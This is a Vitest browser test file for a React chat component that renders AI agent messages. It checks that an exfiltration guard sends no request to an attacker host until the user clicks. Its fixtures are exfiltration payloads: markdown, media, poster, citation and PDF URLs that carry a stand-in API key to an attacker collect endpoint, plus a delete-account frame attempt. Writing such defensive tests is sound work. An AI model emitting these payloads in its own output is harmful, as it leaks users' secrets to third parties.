/*
 * The exfiltration guard, with request interception: zero requests to a host outside the
 * allow-list until the user clicks its placeholder, and after the click exactly the request the
 * placeholder named. (The test's policy blocks the request itself and reports it: nothing
 * leaves the machine, but every attempt is seen.)
 */
import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { render } from 'vitest-browser-react';
import { page, userEvent } from 'vitest/browser';
import type { Msg } from '../../src/index.js';
import { AgentMessagesProvider, Message } from '../../src/index.js';
import { EVIL, done, media, result, text, url } from './corpus/case.js';
import {
  ALLOWED_MEDIA_PREFIX,
  attemptedRequests,
  installTraps,
  resetTraps,
  scanDom,
} from './harness.js';
import { SAFETY, frames } from './run-case.js';

const SECRET = `https://${EVIL}/collect?q=API_KEY_123`;
const POSTER = `https://${EVIL}/poster.png?q=API_KEY_123`;

async function show(message: Msg) {
  const screen = await render(
    <AgentMessagesProvider safety={SAFETY}>
      <Message message={message} />
    </AgentMessagesProvider>,
  );
  await frames();
  return screen.container;
}

/** Waits until the browser has had time to start (and the policy to report) a request. */
async function settleRequests() {
  await frames();
  await new Promise((resolve) => setTimeout(resolve, 100));
}

beforeAll(() => installTraps());
beforeEach(async () => {
  await settleRequests();
  resetTraps();
});

describe('no request before the user acts', () => {
  it.each([
    ['a markdown image', () => done(text(`Done! ![status](${SECRET})`))],
    ['a reference-style markdown image', () => done(text(`![s][x]\n\n[x]: ${SECRET}`))],
    ['a data-block image', () => done(media(url(SECRET, 'image/png'), { name: 'chart.png' }))],
    ['an image in a tool result', () => done(result([media(url(SECRET, 'image/png'))]))],
    [
      'audio (with an attacker poster next to it)',
      () => done(media(url(SECRET, 'audio/mpeg'), { thumbnail: url(POSTER, 'image/png') })),
    ],
    [
      'video with an attacker poster',
      () => done(media(url(SECRET, 'video/mp4'), { thumbnail: url(POSTER, 'image/png') })),
    ],
  ])('%s: nothing until the click, then exactly that request', async (_, message) => {
    const root = await show(message());
    await settleRequests();
    expect(attemptedRequests()).toEqual([]);
    expect(scanDom(root)).toEqual([]);

    const load = page.getByRole('button', { name: `Load from ${EVIL}` });
    await expect.element(load).toBeVisible();
    await userEvent.click(load);
    await settleRequests();
    // A blocked frame is reported by its origin only; every other request by its URL.
    const attempts = attemptedRequests();
    expect(attempts.length).toBeGreaterThan(0);
    for (const attempt of attempts) expect([SECRET, `https://${EVIL}`]).toContain(attempt);
  });

  it.each([
    ['audio', 'audio/mpeg'],
    ['video', 'video/mp4'],
  ])('%s: native controls that fetch nothing before play, and no poster', async (tag, type) => {
    // Under this file's policy a blocked media element errors at once, so its attributes are
    // read as rendered, on a same-origin source that loads without a click.
    const root = await show(
      done(media(url('/media/clip', type), { thumbnail: url(POSTER, 'image/png') })),
    );
    const element = root.querySelector(tag);
    expect(element?.getAttribute('preload')).toBe('none');
    expect(element?.hasAttribute('poster')).toBe(false);
    await settleRequests();
    expect(attemptedRequests()).toEqual([]);
  });

  it('a citation to the attacker: a link, no favicon or preview, no request', async () => {
    await show(
      done(
        text('Per the report.', { citations: [{ url: SECRET, title: 'Report', span: [0, 15] }] }),
      ),
    );
    await settleRequests();
    expect(attemptedRequests()).toEqual([]);
    await expect
      .element(page.getByRole('link', { name: /Report/ }))
      .toHaveAttribute('href', SECRET);
  });

  it('a click on one markdown image does not load the next image at the same position', async () => {
    const BENIGN = 'https://benign.example/c.png';
    const at = (markdown: string) => done(text(`Chart: ${markdown}`, { id: 't-recycled' }));
    const screen = await render(
      <AgentMessagesProvider safety={SAFETY}>
        <Message message={at(`![c](${BENIGN})`)} />
      </AgentMessagesProvider>,
    );
    await userEvent.click(page.getByRole('button', { name: 'Load from benign.example' }));
    await settleRequests();
    expect(attemptedRequests()).toEqual([BENIGN]);

    // The same block regroups: react-markdown reuses the image component at this position.
    await screen.rerender(
      <AgentMessagesProvider safety={SAFETY}>
        <Message message={at(`![x](${SECRET})`)} />
      </AgentMessagesProvider>,
    );
    await settleRequests();
    expect(attemptedRequests()).toEqual([BENIGN]);
    expect(scanDom(screen.container)).toEqual([]);
    await expect.element(page.getByRole('button', { name: `Load from ${EVIL}` })).toBeVisible();
  });

  it('the allow-list loads by itself, and only the allow-list', async () => {
    const allowed = `${ALLOWED_MEDIA_PREFIX}chart.png`;
    const root = await show(
      done(
        text(
          `![a](${allowed}) ![b](https://cdn.allowed.test/other/x.png) ![c](https://cdn.allowed.test/images/..%2fx.png)`,
        ),
      ),
    );
    await settleRequests();
    expect(attemptedRequests()).toEqual([allowed]);
    expect(root.querySelectorAll('img')).toHaveLength(1);
    // The two blocked images' load buttons; the action bar's Copy is not content.
    expect(root.querySelectorAll('[data-slot="message-content"] button')).toHaveLength(2);
  });

  it('a remote PDF is never framed: an "Open" link to a new tab, and no request', async () => {
    const root = await show(done(media(url(SECRET, 'application/pdf'), { name: 'r.pdf' })));
    await settleRequests();
    expect(attemptedRequests()).toEqual([]);
    expect(scanDom(root)).toEqual([]);
    expect(root.querySelector('iframe')).toBeNull();
    expect(page.getByRole('button', { name: /^Load from/ }).elements()).toHaveLength(0);
    const open = page.getByRole('link', { name: `Open on ${EVIL} (opens in new tab)` });
    await expect.element(open).toHaveAttribute('href', SECRET);
    await expect.element(open).toHaveAttribute('target', '_blank');
    await expect.element(open).toHaveAttribute('rel', expect.stringMatching(/noopener noreferrer/));
    await expect.element(page.getByRole('link', { name: 'Download r.pdf' })).toBeVisible();
  });

  it('a same-origin document that content chose is never framed, only downloaded', async () => {
    const root = await show(
      done(
        media(url('/uploads/x.html', 'application/pdf'), { name: 'invoice.pdf' }),
        media(url('/settings/delete-account', 'application/pdf'), { name: 'report.pdf' }),
      ),
    );
    await settleRequests();
    expect(root.querySelector('iframe')).toBeNull();
    expect(page.getByRole('button', { name: /^Load from/ }).elements()).toHaveLength(0);
    expect(page.getByRole('link', { name: /^Open on/ }).elements()).toHaveLength(0);
    await expect
      .element(page.getByRole('link', { name: 'Download invoice.pdf' }))
      .toHaveAttribute('download', 'invoice.pdf');
  });

  it('an allow-listed PDF is previewed at once', async () => {
    const own = `${location.origin}/__ram_test__/docs/`;
    const screen = await render(
      <AgentMessagesProvider safety={{ mediaAllowlist: [own] }}>
        <Message
          message={done(media(url('/__ram_test__/docs/q3.pdf', 'application/pdf'), { page: 2 }))}
        />
      </AgentMessagesProvider>,
    );
    expect(screen.container.querySelector('iframe')?.getAttribute('src')).toBe(
      '/__ram_test__/docs/q3.pdf#page=2',
    );
  });
});
